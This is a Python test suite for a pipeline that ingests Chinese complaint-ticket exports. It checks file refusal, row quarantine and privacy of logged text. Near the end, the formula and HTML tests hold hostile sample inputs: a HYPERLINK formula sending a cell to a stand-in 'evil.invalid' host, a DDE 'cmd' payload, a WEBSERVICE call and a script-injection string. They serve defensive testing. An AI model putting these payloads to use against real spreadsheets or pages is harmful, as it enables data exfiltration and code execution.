"""Bad input: one clear error for a file, or a quarantine entry for a row; the rest goes in, nothing is lost or run."""

import io
import json
import random
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from pipelines.ingest import LONGEST_CELL, MENDS, IngestError
from tests.intake_desk import HEADING, SHEET, Desk, bad_row, jsonl, packed, refused, repacked, row, sheet

GOOD = packed([HEADING, row(1), row(2)])


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    made = Desk(tmp_path)
    with made.vault:
        yield made


# ---- whole files


@pytest.mark.parametrize("name", ["a.csv", "a.tsv", "a.xlsx", "a.json", "a.jsonl"])
def test_nothing_in_it(desk: Desk, name: str) -> None:
    refused(desk, name, b"", "empty, 0 bytes; export it again")


@pytest.mark.parametrize("name", ["a.csv", "a.tsv", "a.xlsx", "a.json", "a.jsonl"])
@pytest.mark.parametrize("seed", range(4))
def test_binary_garbage(desk: Desk, name: str, seed: int) -> None:
    garbage = random.Random(seed).randbytes(200_000)
    refused(desk, name, garbage, "neither UTF-8 nor GB18030|binary data|not an .xlsx")
    refused(desk, name, b"\0" * 5000, "binary data|not an .xlsx")


def test_a_wrong_heading_is_named_without_a_word_of_the_file(desk: Desk) -> None:
    secret = "林某的家庭情况"
    refused(desk, "a.csv", f"甲,乙\n{secret},2\n", "no heading found in the first 20 rows .*工单编号")
    refused(desk, "a.csv", sheet([]).replace("来电时间", secret), "no column for posted_at .*来电时间.*export.columns")
    with pytest.raises(IngestError) as caught:
        desk.take("a.csv", sheet([]).replace("来电时间", secret))
    assert secret not in str(caught.value)
    refused(desk, "a.xlsx", packed([["标 题", "x"], ["a", "b"]]), "no column for posted_at")
    refused(desk, "a.csv", sheet([]).replace("标题", "甲").replace("诉求内容", "乙"), "no column for title or body")
    refused(desk, "a.json", json.dumps([{"编号": 1, "标题": "无人"}]), "no column for posted_at")
    refused(desk, "a.csv", "标题\nx\n", "declaration names no column for posted_at", columns={"title": ["标题"]})


def test_other_files_under_a_tables_name(desk: Desk) -> None:
    refused(desk, "a.csv", GOOD, "this is a workbook or zip archive; name it .xlsx")
    refused(desk, "a.json", b"%PDF-1.7 ...", "this is a PDF")
    refused(desk, "a.xlsx", sheet([row(1)]), "not an .xlsx workbook")
    refused(desk, "a.xlsx", b"\xd0\xcf\x11\xe0" + b"x" * 600, "an old .xls or a protected workbook")


def test_broken_json(desk: Desk) -> None:
    refused(desk, "a.json", '[{"标题": "无人",\n "来电时间"', "line 2: not JSON: .*half-written")
    refused(desk, "a.json", jsonl({"标题": "x"}, {"标题": "y"}), "line 2: not JSON: Extra data; save it as .jsonl")
    refused(desk, "a.json", "[" * 100_000, "nested too deeply")
    refused(desk, "a.json", '"标题"', "no list of records at the top")
    refused(desk, "a.json", '["无人'.encode("gb18030") + b'\xff\xff"]', "neither UTF-8|undecodable")


# ---- rows


def test_an_undecodable_line(desk: Desk) -> None:
    good = sheet([row(1), row(2)]).encode().split(b"\r\n")
    broken = ",".join(row(3, "无人受理")).encode().replace("受".encode(), b"\xe5\x8f\xff")
    bad_row(desk, "undecodable", b"\r\n".join([*good[:2], broken, *good[2:]]))
    assert desk.payload() == broken + b"\r\n"  # kept as it came


def test_a_cut_line_of_utf_8_is_not_taken_for_gb18030(desk: Desk) -> None:
    cut = ",".join(row(3, "多次反映无人受理的问题", "窗口无人")).encode()[:-1].replace("问题".encode(), "问题".encode()[1:])
    cut = next(line for line in (cut.replace("多".encode(), b"\xe5" * n) for n in range(1, 9)) if _is_gb(line))
    head, *rest = sheet([row(1), row(2)]).encode().splitlines(keepends=True)
    bad_row(desk, "undecodable", b"".join([head, rest[0], cut + b"\n", rest[1]]))


def _is_gb(line: bytes) -> bool:
    try:
        line.decode("gb18030")
    except UnicodeDecodeError:
        return False
    return True


def test_an_undecodable_line_of_utf_16(desk: Desk) -> None:
    lines = [line.encode("utf-16-le") for line in sheet([row(1), row(2)]).splitlines(keepends=True)]
    broken = "GD3,林,1,".encode("utf-16-le") + b"\x00\xd8" + ",正文,20250506\n".encode("utf-16-le")
    bad_row(desk, "undecodable", b"\xff\xfe" + b"".join([*lines[:2], broken, *lines[2:]]))


def test_five_megabytes_in_a_cell(desk: Desk) -> None:
    bad_row(desk, "too_long", sheet([row(1), row(3, "长" * (5 << 20)), row(2)]))
    assert len(desk.payload()) > 15 << 20
    assert desk.take("b.csv", sheet([row(4, "长\n" * (LONGEST_CELL // 2))])).new == 1


def test_five_megabytes_of_lines_in_a_cell(desk: Desk) -> None:
    bad_row(desk, "too_long", sheet([row(1), row(3, "这是长长的一行,每一行都长长的一行\n" * 100_000), row(2)]))


def test_a_long_cell_in_each_other_form(desk: Desk) -> None:
    long = row(3, "长" * (LONGEST_CELL + 1))
    book = packed([HEADING, row(1), row(3, "LONG"), row(2)])
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        words = archive.read(SHEET).replace(b"LONG", long[4].encode())
    bad_row(desk, "too_long", repacked(book, {SHEET: words}), "a.xlsx")
    named = [dict(zip(HEADING, cells, strict=True)) for cells in (row(1), long, row(2))]
    assert desk.take("b.jsonl", jsonl(*named)).quarantined == 1
    assert desk.take("c.json", json.dumps(named)).quarantined == 1


def test_a_line_beyond_any_table(desk: Desk) -> None:
    giant = "GD3,林某,1,标题," + "x" * (17 << 20) + ",20250506\r\n"
    received = desk.take("a.csv", sheet([row(1)]) + giant + sheet([row(2)]).split("\r\n", 1)[1])
    assert received.new == 2
    assert [reason for _, reason in desk.reasons()] == ["too_long", "wrong_width"]  # in two pieces, both kept


def test_nul_bytes(desk: Desk) -> None:
    bad_row(desk, "nul_byte", sheet([row(1), row(3, "窗口\0无人"), row(2)]))
    assert desk.take("b.jsonl", jsonl({"标题": "a\0b", "时间": "20250506"}, {"标题": "c", "时间": "20250506"})).quarantined == 1


def test_half_characters_that_json_can_write(desk: Desk) -> None:
    bad = '{"标题": "\\ud83d无人", "时间": "20250506"}\n'
    bad_row(
        desk,
        "bad_text",
        jsonl({"标题": "甲", "时间": "20250506"}) + bad + jsonl({"标题": "乙", "时间": "20250506"}),
        "a.jsonl",
        2,
    )
    assert desk.take("a.json", f"[{bad}]").quarantined == 1


def test_a_broken_line_of_jsonl(desk: Desk) -> None:
    first, second = ({"标题": title, "时间": "20250506"} for title in "甲乙")
    bad_row(desk, "bad_json", jsonl(first) + '{"标题": "无人", "时间\n' + jsonl(second), "a.jsonl", 2)
    for n, bad in enumerate(["[1, 2]", '"标题"', "7", "[" * 100_000, '{"a": ' * 50_000]):
        received = desk.take(f"{n}.jsonl", jsonl(first) + bad + "\n" + jsonl(second))
        assert (received.same, received.quarantined) == (2, 1), bad[:10]


def test_lines_that_are_no_records_at_all(desk: Desk) -> None:
    refused(desk, "a.jsonl", json.dumps([{"标题": "无人"}], indent=1), "none of the first 20 lines is a JSON object")


def test_a_record_of_other_fields(desk: Desk) -> None:
    bad_row(desk, "no_text", jsonl({"标题": "甲", "时间": "20250506"}, {"别的": "丙"}), "a.jsonl", 2, good=1)


@pytest.mark.parametrize(
    ("at", "reason"),
    [
     ("2025-02-30", "bad_date"), ("昨天", "bad_date"), ("", "no_date"), ("2025-06-05", "future_date"),
     ("2091-01-01", "future_date"), ("0000-00-00 00:00:00", "bad_date"), ("1e400", "bad_date")],
)  # fmt: skip
def test_times_that_cannot_be(desk: Desk, at: str, reason: str) -> None:
    bad_row(desk, reason, sheet([row(1), row(3, at=at), row(2)]))


def test_up_to_two_days_ahead_is_a_clock_that_is_wrong(desk: Desk) -> None:
    assert desk.take("a.csv", sheet([row(1, at="2025-06-04 09:00:00")])).new == 1


def test_reply_times_that_cannot_be(desk: Desk) -> None:
    text = "标题,时间,答复时间\n甲,20250506,未答复\n乙,20250506,2025-5-7\n丙,20250506,2025-13-7\n丁,20250506,2095-1-7\n"
    assert desk.take("a.csv", text).new == 2
    assert desk.reasons() == [("a.csv:4", "bad_reply_date"), ("a.csv:5", "bad_reply_date")]


def test_a_row_without_words(desk: Desk) -> None:
    bad_row(desk, "no_text", sheet([row(1), row(3, "", " \t"), row(2)]))


def test_one_id_for_two_texts(desk: Desk) -> None:
    bad_row(desk, "duplicate_id", sheet([row(1), row(1, "另一件事"), row(2)]))
    assert desk.fields()[0]["body"] == row(1)[4]
    again = desk.take("a.csv", sheet([row(1), row(1, "另一件事"), row(1), row(2)]), chunk=1)
    assert (again.same, again.quarantined, again.updated) == (3, 1, 0)
    assert len(desk.reasons()) == 1


def test_rows_of_the_wrong_width(desk: Desk) -> None:
    short, long, padded = "GD7,林某,1,标题\n", "GD8,林某,1,标题,正文,有,逗号,20250506\n", ",".join(row(9, "正文")) + ",,,\n"
    received = desk.take("a.csv", sheet([row(1)]) + short + long + padded)
    assert (received.new, received.quarantined) == (2, 2)
    assert desk.reasons() == [("a.csv:3", "wrong_width"), ("a.csv:4", "wrong_width")]


@pytest.mark.parametrize("others", [40, 3])
@pytest.mark.parametrize("position", [0, 2])
def test_a_quote_never_closed_costs_its_own_line_only(desk: Desk, others: int, position: int) -> None:
    rows = [",".join(row(n, "无人受理")) for n in range(others)]
    rows.insert(position, 'GD9000,林某,1,标题,"说好的没办,20250506')
    received = desk.take("a.csv", "\n".join([",".join(HEADING), *rows]))
    assert (received.new, received.quarantined) == (others, 1)
    assert desk.reasons() == [(f"a.csv:{position + 2}", "bad_quotes")]


def test_an_open_quote_closed_by_chance_later_swallows_no_row(desk: Desk) -> None:
    rows = [",".join(row(n, "无人受理")) for n in range(30)]
    rows.insert(1, 'GD9000,林某,1,标题,"说好的没办,20250506')
    rows.insert(20, 'GD9001,林某,1,标题,没办",20250506')
    received = desk.take("a.csv", "\n".join([",".join(HEADING), *rows]))
    assert received.new == 31
    assert desk.reasons() == [("a.csv:3", "bad_quotes")]


def test_an_open_quote_runs_on_no_further_than_a_line_may(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pipelines.read_delimited.LONGEST_LINE", 300)
    head, first, last = sheet([row(1), row(2)]).splitlines(keepends=True)
    between = "一行没有逗号的话\n" * 60
    received = desk.take("a.csv", f'{head}{first}GD3,林某,1,标题,"说好的\n{between}没办",20250506\n{last}')
    assert received.new == 2
    assert [reason for _, reason in desk.reasons()][:2] == ["bad_quotes", "wrong_width"]


def test_quotes_inside_a_quoted_cell(desk: Desk) -> None:
    bad = 'GD3,林某,1,标题,"他说"不归我管",走了",20250506\n'
    head, *rows = sheet([row(1), row(2)]).splitlines(keepends=True)
    bad_row(desk, "bad_quotes", "".join([head, rows[0], bad, rows[1]]))


FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"点此")'


def test_formulas_stay_words(desk: Desk) -> None:
    desk.take("a.csv", sheet([row(1, FORMULA, "=cmd|' /C calc'!A0")]))
    desk.take("b.xlsx", packed([HEADING, row(2, FORMULA), [*row(3)[:4], '=WEBSERVICE("http://evil.invalid")', "2025/5/6"]]))
    assert [f["body"] for f in desk.fields()] == [FORMULA, FORMULA, '=WEBSERVICE("http://evil.invalid")']


def test_html_and_script_are_kept_as_they_came(desk: Desk) -> None:
    title = "<script>alert(1)</script><b onclick='x'>窗口</b>&lt;无人&gt;"
    desk.take("a.csv", sheet([row(1, title=title)]))
    assert desk.fields()[0]["title"] == title


def test_quarantine_and_log_name_no_words_of_the_row(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    secret = "住在三号楼的林某"
    rows = [row(1, secret, at="x"), [secret], row(2, secret + "\0"), row(3, secret), row(3, secret + "另")]
    desk.take("a.csv", sheet(rows) + f'7,"{secret}')
    told = json.dumps(desk.vault.log("quarantine"), ensure_ascii=False, default=str) + capsys.readouterr().out
    assert secret not in told
    assert len(desk.reasons()) == 5
    for file in desk.folder.glob("vault/*"):
        assert secret.encode() not in file.read_bytes()


def test_every_reason_has_a_mend() -> None:
    """A reason without one would end the intake of a whole file."""
    text = "".join(
        path.read_text(encoding="utf-8")
        for path in Path("pipelines").glob("*.py")
        if path.stem.startswith(("read_", "lines", "ingest"))
    )
    for reason in MENDS:
        assert f'"{reason}"' in text.replace(f'    "{reason}": ', "", 1), f"{reason} is never given"
